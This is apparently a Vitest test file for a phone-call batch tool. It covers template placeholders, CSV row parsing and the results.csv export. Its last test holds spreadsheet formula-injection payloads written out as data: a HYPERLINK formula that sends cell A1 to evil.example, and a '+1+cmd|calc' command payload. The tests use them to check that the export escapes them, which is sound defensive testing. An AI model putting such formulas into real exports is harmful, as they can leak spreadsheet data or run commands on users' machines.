import { describe, expect, it } from 'vitest';
import { resultsHeader, resultsLine } from '../../src/batches/results-csv.js';
import { parseCsvRows, variablesOfRows } from '../../src/batches/rows.js';
import { renderTemplate, renderText, templateVariables } from '../../src/batches/template.js';
import { CallError } from '../../src/calls/errors.js';
import type { CallRow } from '../../src/db/schema.js';

describe('template', () => {
  const t = {
    objective: 'Call {{name}} about {{ topic }}; {{name}} again.',
    context: 'Account {{account_id}}.',
    voicemail: { action: 'leave_message' as const, message: 'Hi {{name}}, call back.' },
    transfer: { to: '+14155550120', mode: 'cold' as const, when: 'if {{name}} asks for {{agent}}' },
    fields: [{ name: 'x', type: 'string' as const }],
  };

  it('finds the variables of objective, context, voicemail.message and transfer.when, once each', () => {
    expect(templateVariables(t)).toEqual(['name', 'topic', 'account_id', 'agent']);
    expect(templateVariables({ objective: 'Plain.' })).toEqual([]);
  });

  it('fills every placeholder, stringifying numbers and booleans, and leaves the rest as it is', () => {
    const r = renderTemplate(t, { name: 'Dana', topic: 7, account_id: true, agent: 'Sam', unused: 'x' });
    expect(r).toEqual({
      ok: true,
      value: {
        ...t,
        objective: 'Call Dana about 7; Dana again.',
        context: 'Account true.',
        voicemail: { action: 'leave_message', message: 'Hi Dana, call back.' },
        transfer: { to: '+14155550120', mode: 'cold', when: 'if Dana asks for Sam' },
      },
    });
  });

  it('names every used variable a row lacks', () => {
    expect(renderTemplate(t, { name: 'Dana' })).toEqual({
      ok: false,
      missing: ['topic', 'account_id', 'agent'],
    });
  });

  it('has no other syntax: a value is never rendered again, odd braces stay literal', () => {
    expect(renderText('{{a}} {{b}}', { a: '{{b}}', b: 'B' })).toBe('{{b}} B');
    expect(renderText('{a} {{ a b }} {{{a}}} {{1a}}', { a: 'X' })).toBe('{a} {{ a b }} {X} {{1a}}');
    expect(renderText('{{constructor}}', {})).toBe('{{constructor}}');
    expect(renderTemplate({ objective: '{{toString}}' }, {})).toEqual({ ok: false, missing: ['toString'] });
  });
});

describe('parseCsvRows', () => {
  it('reads the header as variable names, `to` in any case, metadata.<key> columns, quotes, BOM and CRLF', () => {
    const out = parseCsvRows(
      '\ufeff TO ,first name,metadata.id,metadata.tier\r\n' +
        '+14155552671,"Dana ""D"", Jr.",17,gold\r\n' +
        '\r\n' +
        ' +14155552672 ,,18,\r\n' +
        '+14155552673,"two\nlines",,\r\n',
    );
    expect(out.variables).toEqual(['first name']);
    expect(out.rows).toEqual([
      {
        to: '+14155552671',
        variables: { 'first name': 'Dana "D", Jr.' },
        metadata: { id: '17', tier: 'gold' },
      },
      { to: '+14155552672', metadata: { id: '18' } },
      { to: '+14155552673', variables: { 'first name': 'two\nlines' } },
    ]);
  });

  const refusal = (text: string) => {
    try {
      parseCsvRows(text);
    } catch (err) {
      expect(err).toBeInstanceOf(CallError);
      return err as CallError & { details: { line: number | null; fields: { field: string }[] } };
    }
    throw new Error('no refusal');
  };

  it('refuses unreadable CSV naming the line, and headers it cannot use', () => {
    expect(refusal('to,a\n+1,x\n+2,"y\n').details.line).toBe(3);
    expect(refusal('to,a\n+1,x,z\n').details.line).toBe(2);
    expect(refusal('').details.line).toBe(1);
    expect(refusal('a,b\n1,2\n').message).toContain("no 'to' column");
    expect(refusal('to,,b\n1,2,3\n').message).toContain('column 2 has no name');
    expect(refusal('to,To\n1,2\n').message).toContain('twice');
    expect(refusal('to,__proto__\n1,2\n').message).toContain('not allowed');
    expect(refusal('to,metadata.\n1,2\n').message).toContain('names no metadata key');
    const r = refusal('to,a\n+1,x,y\n');
    expect(r.code).toBe('invalid_request');
    expect(r.details.fields[0].field).toBe('csv');
  });

  it('refuses more than 10,000 data rows', () => {
    const text = `to\n${'+14155552671\n'.repeat(10_001)}`;
    expect(refusal(text).message).toContain('at most 10000');
    expect(parseCsvRows(`to\n${'+14155552671\n'.repeat(10_000)}`).rows).toHaveLength(10_000);
  });

  it('takes the JSON rows variable names in order of first appearance', () => {
    expect(
      variablesOfRows([
        { to: '+1', variables: { b: 1 } },
        { to: '+2', variables: { a: 'x', b: 2 } },
        { to: '+3' },
      ]),
    ).toEqual(['b', 'a']);
  });
});

describe('results.csv lines', () => {
  it('renames a variable that clashes with a fixed column and prints cells as text', () => {
    expect(resultsHeader(['status', 'name'], ['ok'])).toEqual([
      'row',
      'callId',
      'to',
      'status',
      'endedReason',
      'attempts',
      'durationSeconds',
      'optOut',
      'summary',
      'variables.status',
      'name',
      'extracted.ok',
    ]);
    const call = {
      id: 'c1',
      batchRow: 2,
      toNumber: '+14155552671',
      status: 'no_answer',
      endedReason: 'no_answer_timeout',
      attempts: [{ attempt: 1 }],
      dialedAt: new Date(),
      durationSeconds: 0,
      optOut: true,
      summary: null,
      extracted: { ok: { nested: [1] } },
    } as unknown as CallRow;
    const line = resultsLine(call, {
      template: { variables: ['status', 'name'], rowVariables: [null, { status: 'vip', name: 7 }] },
      fields: ['ok'],
    });
    expect(line).toEqual([
      '2',
      'c1',
      '+14155552671',
      'no_answer',
      'no_answer_timeout',
      '2',
      '0',
      'true',
      '',
      'vip',
      '7',
      '{"nested":[1]}',
    ]);
  });
});

describe('results.csv against formula injection', () => {
  it('quotes text a spreadsheet would run as a formula, never numbers or E.164 numbers', () => {
    const call = {
      id: 'c2',
      batchRow: 1,
      toNumber: '+14155550100',
      status: 'completed',
      endedReason: 'completed',
      attempts: [],
      dialedAt: new Date(),
      durationSeconds: 12,
      optOut: false,
      summary: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
      extracted: {
        amount: '-3.5',
        callback: '+14155550123',
        note: '@SUM(1+1)',
        plus: '+1+cmd|calc',
        minus: '-2+3',
        tab: '\t=1',
        cr: '\r=1',
        count: -7,
        plain: 'fine = ok',
        list: ['=1'],
      },
    } as unknown as CallRow;
    const fields = ['amount', 'callback', 'note', 'plus', 'minus', 'tab', 'cr', 'count', 'plain', 'list'];
    const line = resultsLine(call, {
      template: { variables: ['=cmd', 'code'], rowVariables: [{ '=cmd': '=1+2', code: '+33' }] },
      fields,
    });
    expect(line).toEqual([
      '1',
      'c2',
      '+14155550100',
      'completed',
      'completed',
      '1',
      '12',
      'false',
      `'=HYPERLINK("https://evil.example/?x="&A1,"click")`,
      "'=1+2",
      '+33',
      '-3.5',
      '+14155550123',
      "'@SUM(1+1)",
      "'+1+cmd|calc",
      "'-2+3",
      "'\t=1",
      "'\r=1",
      '-7',
      'fine = ok',
      '["=1"]',
    ]);
    expect(resultsHeader(['=cmd'], ['x'])).toContain("'=cmd");
  });
});
